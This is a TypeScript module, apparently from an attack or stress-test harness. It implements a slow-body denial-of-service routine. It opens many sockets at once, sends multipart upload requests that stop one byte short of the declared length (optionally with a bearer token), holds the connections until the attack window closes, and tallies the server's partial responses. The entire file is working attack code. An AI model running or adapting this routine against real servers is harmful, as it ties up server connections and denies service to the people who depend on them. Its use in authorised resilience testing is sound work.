// Multipart bodies that lack their last byte.
import type { Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { createTally } from './attackers.ts'
import type { Target } from './pattern.ts'

interface Unfinished {
  readonly count: number
  /** Of each body. */
  readonly bytes: number
  readonly path: string
  readonly token?: string
}

/** Sends them all at once and waits until the attack ends; says how the server answered before it had the whole. */
export const sendUnfinished = async (
  { endsAt }: Pick<Target, 'endsAt'>,
  { count, bytes, path, token }: Unfinished,
  open: () => Socket,
): Promise<string> => {
  const tally = createTally()
  const part = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n'
  const head = [
    `POST ${path} HTTP/1.1`,
    'host: school',
    'content-type: multipart/form-data; boundary=x',
    `content-length: ${bytes}`,
    ...(token ? [`authorization: Bearer ${token}`] : []),
  ]
  const body = Buffer.alloc(bytes - part.length - 1, 'x')
  const sockets = Array.from({ length: count }, () => {
    const socket = open()
    socket.write(`${head.join('\r\n')}\r\n\r\n${part}`)
    socket.write(body, () => tally.add('sent'))
    socket.on('data', (data) => tally.add(String(data).slice(9, 12)))
    return socket
  })
  while (Date.now() < endsAt - 1_000) await pause(200)
  for (const socket of sockets) socket.destroy()
  return tally.toString()
}
